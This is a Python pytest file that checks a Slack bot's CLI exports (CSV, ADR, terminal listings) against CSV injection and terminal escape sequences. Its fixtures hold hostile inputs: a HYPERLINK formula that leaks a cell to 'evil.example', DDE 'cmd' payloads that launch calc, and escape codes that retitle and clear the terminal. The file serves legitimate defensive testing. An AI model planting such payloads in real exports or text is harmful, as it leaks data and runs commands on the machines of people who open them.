"""Operator exports replay user text safely (issue 11, defect 11): questions asked over Slack's
wire with spreadsheet formulas and terminal escape sequences in them, then the operator's
`netplugin decisions export --format csv | adr`, `decisions show` and `decisions list`, and
`netplugin recommend`: no cell a spreadsheet runs as a formula (OWASP's CSV injection rule), no
control character on the terminal or in an ADR file."""

from __future__ import annotations

import csv
import io
import json
import unicodedata

import pytest
from waiting import settle

from bot.decisions import DecisionLog
from bot.fakeslack import FakeSlack, SlackDriver
from bot.runtime.app import build_app
from bot.runtime.server import create_web_app, serve_in_thread
from bot.settings import Settings
from bot.slack import ids

SECRET = "exports-signing-secret"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP: what makes a cell a formula
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open the runbook") location=ens nodes=500',
    "+cmd|' /C calc'!A0 location=idc cross-lan=yes",
    "@SUM(1+1)*cmd|' /C calc'!A0 location=cloud nodes=40",
    "-2+3+cmd|' /C calc'!A0 location=ens nodes=300",
]
ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[31m400 ENS nodes, need NLB\x1b[0m\r\x1b[1Ano BGP\x9b31m"
HOSTILE_USER = "U0\x1b[8mHIDDEN"


def controls(text: str) -> list[str]:
    return [repr(ch) for ch in text if unicodedata.category(ch) == "Cc" and ch not in "\n\t"]


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    """A log filled over Slack's wire: signed slash commands to the real app."""
    path = str(tmp_path_factory.mktemp("exports") / "decisions.db")
    with FakeSlack() as fake:
        settings = Settings(
            slack_bot_token=fake.bot_token,
            slack_signing_secret=SECRET,
            slack_api_url=fake.api_url,
            netplugin_db=path,
        )
        log = DecisionLog(path)
        app = build_app(settings, log=log)
        server = serve_in_thread(create_web_app(app))
        try:
            driver = SlackDriver(server.url + ids.EVENTS_PATH, SECRET, fake)
            for text in FORMULAS:
                assert driver.send_slash(text).status == 200
            assert driver.send_slash(ESCAPES, user=HOSTILE_USER).status == 200
            fake.wait_for("chat.postMessage", count=len(FORMULAS) + 1)
            settle(app, server)
            assert log.count() == len(FORMULAS) + 1
        finally:
            server.stop()
            log.close()
    return path


def test_csv_cells_are_never_formulas(cli, db) -> None:
    result = cli("decisions", "export", "--format", "csv", "--db", db)
    assert result.exit_code == 0
    assert controls(result.stdout) == []
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    asked = {row["raw_text"] for row in rows}
    for text in FORMULAS:
        assert "'" + text in asked  # as typed, behind an apostrophe: text, not a formula
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_START), (column, cell)


def test_terminal_output_carries_no_control_character(cli, db) -> None:
    escaped = next(d for d in DecisionLog(db).query() if d.user == HOSTILE_USER)
    shown = cli("decisions", "show", "--db", db, str(escaped.id))
    assert shown.exit_code == 0
    assert controls(shown.stdout) == []
    assert "400 ENS nodes" in shown.stdout and "pwned" not in shown.stdout
    as_json = cli("decisions", "show", "--db", db, str(escaped.id), "--json")
    assert as_json.exit_code == 0 and controls(as_json.stdout) == []
    assert json.loads(as_json.stdout)["asked-by"] == {"name": HOSTILE_USER, "id": None}
    listed = cli("decisions", "list", "--db", db)
    assert controls(listed.stdout) == [] and "HIDDEN" in listed.stdout
    card = cli("recommend", ESCAPES)
    assert card.exit_code == 0 and controls(card.stdout) == []
    assert "Terway Edge" in card.stdout


def test_adr_files_carry_no_control_character(cli, db, tmp_path) -> None:
    export = ("decisions", "export", "--format", "adr", "--db", db, "--out", str(tmp_path))
    result = cli(*export, "--all")
    assert result.exit_code == 0
    files = sorted(tmp_path.glob("*.md"))
    assert len(files) == len(FORMULAS) + 1
    for file in files:
        assert controls(file.read_text(encoding="utf-8")) == [], file.name


@pytest.mark.parametrize("start", FORMULA_START)
def test_every_owasp_formula_start_is_neutralised(start) -> None:
    from bot.render.environment import csv_cell, printable

    cell = csv_cell(start + "1+1")
    assert not cell.startswith(FORMULA_START) and cell.endswith("1+1")
    assert cell.startswith("'") or start == "\r"  # a CR is a control character: stripped
    assert csv_cell("1" + start) == printable("1" + start)
    assert csv_cell(42) == 42 and csv_cell(None) is None
